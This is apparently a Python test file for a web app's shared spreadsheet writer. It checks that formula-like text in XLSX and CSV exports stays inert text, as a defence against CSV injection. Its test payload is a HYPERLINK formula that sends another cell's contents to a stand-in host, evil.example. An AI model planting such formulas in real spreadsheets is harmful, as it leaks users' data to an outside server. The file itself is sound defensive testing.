"""Every spreadsheet and CSV the app writes keeps what people typed as text: the shared
writer (`core.spreadsheets`) and each export through it (evidence XLSX and CSV, the action
plan, a benchmark), and a check that nothing else writes spreadsheets.

Text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be taken
for a formula by Excel or LibreOffice (OWASP, "CSV Injection").
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from benchmarks.models import BenchmarkVersion
from benchmarks.services import import_version
from core.spreadsheets import (
    FORMULA_STARTS,
    add_sheet,
    csv_cell,
    csv_text,
    is_formula_like,
    new_workbook,
    workbook_bytes,
)
from reviews.models import Evidence
from tests.conftest import small_benchmark_data
from tests.test_follow_up import accept, publish_report

# The example: a link that sends the next cell to somebody else's server.
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DANGEROUS = [start + PAYLOAD for start in FORMULA_STARTS]
IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def _sheet(body: bytes, title: str | None = None):
    workbook = load_workbook(io.BytesIO(body))
    return workbook[title] if title else workbook.active


def _column(sheet, header: str) -> list:
    """The cells under `header` (row 1)."""
    index = [cell.value for cell in sheet[1]].index(header)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def assert_typed_text(cell, text: str) -> None:
    """Stored as the string typed, never a formula, and marked as text for Excel."""
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


# --- the shared writer -------------------------------------------------------------------


@pytest.mark.parametrize("text", DANGEROUS, ids=IDS)
def test_formula_like_text_is_a_text_cell_in_xlsx(text):
    workbook = new_workbook()
    add_sheet(workbook, "t", ["typed"], [[text]])
    assert_typed_text(_sheet(workbook_bytes(workbook))["A2"], text)


def test_numbers_dates_booleans_and_plain_text_keep_their_types_in_xlsx():
    workbook = new_workbook()
    day = datetime.date(2027, 3, 1)
    add_sheet(workbook, "t", ["a", "b", "c", "d", "e", "f"], [[-5, 2.5, day, True, "Plain", None]])
    cells = _sheet(workbook_bytes(workbook))[2]
    assert [c.data_type for c in cells[:5]] == ["n", "n", "d", "b", "s"]
    assert [c.value for c in cells] == [-5, 2.5, datetime.datetime(2027, 3, 1), True, "Plain", None]
    assert not cells[4].quotePrefix


def test_the_header_row_is_text_too():
    workbook = new_workbook()
    add_sheet(workbook, "t", ["=SUM(A1:A9)"], [])
    assert_typed_text(_sheet(workbook_bytes(workbook))["A1"], "=SUM(A1:A9)")


def test_sheet_titles_lose_the_characters_excel_refuses():
    workbook = new_workbook()
    add_sheet(workbook, "Plan: 2027/28 [draft] and a long tail", ["a"], [])
    assert workbook.sheetnames == ["Plan  2027 28  draft  and a lon"]


@pytest.mark.parametrize("text", DANGEROUS, ids=IDS)
def test_formula_like_text_starts_with_an_apostrophe_in_csv(text):
    rows = list(csv.reader(io.StringIO(csv_text([["typed"], [text]]), newline="")))
    assert rows[1] == ["'" + text]


def test_csv_leaves_numbers_dates_and_plain_text_alone():
    day = datetime.date(2027, 3, 1)
    assert [csv_cell(v) for v in (-5, 2.5, day, "Plain", "a=b", None)] == [
        -5,
        2.5,
        day,
        "Plain",
        "a=b",
        "",
    ]
    assert csv_text([[-5, day, "Plain"]]) == "-5,2027-03-01,Plain\r\n"


def test_only_text_that_starts_like_a_formula_counts():
    assert all(is_formula_like(text) for text in DANGEROUS)
    assert not any(is_formula_like(v) for v in ("Plain", " =1+1", "1-2", -5, None))


# --- every export ------------------------------------------------------------------------


def _dangerous_evidence(review, text: str) -> Evidence:
    entry = review.evidence.get()
    Evidence.objects.filter(pk=entry.pk).update(text=text)
    review.proposed_interviewees.update(organisation=text)
    return entry


@pytest.mark.parametrize("text", DANGEROUS, ids=IDS)
def test_evidence_xlsx_keeps_typed_text_as_text(client_for, peer, review, review_work, text):
    _dangerous_evidence(review, text)
    response = client_for(peer).get(reverse("reports:evidence_export", args=[review.pk, "xlsx"]))
    sheet = _sheet(response.content)
    assert_typed_text(_column(sheet, "Finding")[0], text)
    assert text in _column(sheet, "Interviewees")[0].value
    assert _column(sheet, "Interviewees")[0].data_type == "s"


@pytest.mark.parametrize("text", DANGEROUS, ids=IDS)
def test_evidence_csv_puts_an_apostrophe_before_typed_formulas(
    client_for, peer, review, review_work, text
):
    _dangerous_evidence(review, text)
    response = client_for(peer).get(reverse("reports:evidence_export", args=[review.pk, "csv"]))
    header, row = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert row[header.index("Finding")] == "'" + text
    # The code is the app's own text and starts with a letter: left alone.
    assert row[header.index("Code")] == review.evidence.get().codes()[0]


@pytest.mark.parametrize("text", DANGEROUS, ids=IDS)
def test_action_plan_xlsx_keeps_the_host_citys_text_as_text(
    client_for, peer, review, review_work, team_leader, text
):
    _report, (first, _second) = publish_report(review, by=team_leader)
    deadline = datetime.date(2028, 6, 30)
    accept(first, owner=text, deadline=deadline, first_actions=text, rationale=text)
    response = client_for(peer).get(reverse("reports:action_plan_xlsx", args=[review.pk]))
    sheet = _sheet(response.content)
    for header in ("Owner", "First actions", "Rationale"):
        assert_typed_text(_column(sheet, header)[0], text)
    number, when = _column(sheet, "No.")[0], _column(sheet, "Deadline")[0]
    assert (number.value, number.data_type) == (first.number, "n")
    assert (when.value, when.data_type, when.number_format) == (
        datetime.datetime(2028, 6, 30),
        "d",
        "d mmm yyyy",
    )


def _benchmark_with(text: str) -> BenchmarkVersion:
    data = small_benchmark_data(slug="typed")
    data["indicators"][0]["text"] = {"en": text, "nl": text}
    data["groups"][0]["standard"] = {"en": text}
    return import_version(data, publish=True)


@pytest.mark.parametrize("text", DANGEROUS, ids=IDS)
def test_benchmark_xlsx_keeps_typed_text_as_text(client_for, peer, text):
    version = _benchmark_with(text)
    response = client_for(peer).get(
        reverse("benchmarks:export", args=[version.benchmark.slug, 1, "xlsx"])
    )
    indicators = _sheet(response.content, "indicators")
    assert_typed_text(_column(indicators, "text_en")[0], text)
    assert_typed_text(_column(_sheet(response.content, "groups"), "standard_en")[0], text)
    number = _column(indicators, "number")[0]
    assert (number.value, number.data_type) == (1, "n")


# The importer trims surrounding whitespace from every cell, so a leading tab or carriage
# return is not kept (by design); every other start character comes back exactly.
@pytest.mark.parametrize("text", DANGEROUS[:4], ids=IDS[:4])
def test_benchmark_round_trip_keeps_formula_like_text_exactly(
    client_for, coordinator, post_job, text
):
    version = _benchmark_with(text)
    client = client_for(coordinator)
    exported = client.get(reverse("benchmarks:export", args=["typed", 1, "xlsx"])).content
    response = post_job(
        client,
        reverse("benchmarks:import", args=["typed"]),
        {"file": SimpleUploadedFile("typed.xlsx", exported)},
    )
    assert "as draft version 2" in response.content.decode()
    draft = BenchmarkVersion.objects.get(benchmark=version.benchmark, number=2)
    first = draft.indicators.get(code="AA/X/1")
    assert (first.text_en, first.text_nl) == (text, text)
    assert draft.groups.get(code="AA").standard_en == text


# --- nothing else writes spreadsheets ------------------------------------------------------

WRITER = Path("core/spreadsheets.py")
# Ways to write a spreadsheet or CSV without the shared writer.
DIRECT_WRITES = re.compile(
    r"\bWorkbook\(|from openpyxl import[^\n]*\bWorkbook\b|csv\.(writer|DictWriter)\("
    r"|\bimport (xlsxwriter|xlwt|odf)\b|\bpandas\b|\.to_csv\(|\.to_excel\("
)


def _source_files() -> list[Path]:
    root = Path(settings.BASE_DIR)
    skip = {".venv", "tests", "migrations", "var", "node_modules"}
    return [
        path.relative_to(root)
        for path in root.rglob("*.py")
        if not skip & set(path.relative_to(root).parts)
    ]


def test_no_module_but_the_shared_writer_writes_spreadsheets_or_csv():
    """New exports go through `core.spreadsheets` (the benchmark importer only reads, with
    openpyxl's `load_workbook`)."""
    files = _source_files()
    assert WRITER in files and Path("benchmarks/spreadsheet.py") in files
    offenders = [
        f"{path}:{number}: {line.strip()}"
        for path in files
        if path != WRITER
        for number, line in enumerate(path.read_text().splitlines(), start=1)
        if DIRECT_WRITES.search(line)
    ]
    assert offenders == []


def test_the_check_would_see_a_direct_writer():
    assert DIRECT_WRITES.search("    writer = csv.writer(buffer)")
    assert DIRECT_WRITES.search("workbook = openpyxl.Workbook()")
    assert DIRECT_WRITES.search("from openpyxl import Workbook")
    assert not DIRECT_WRITES.search("wb = load_workbook(upload, read_only=True)")
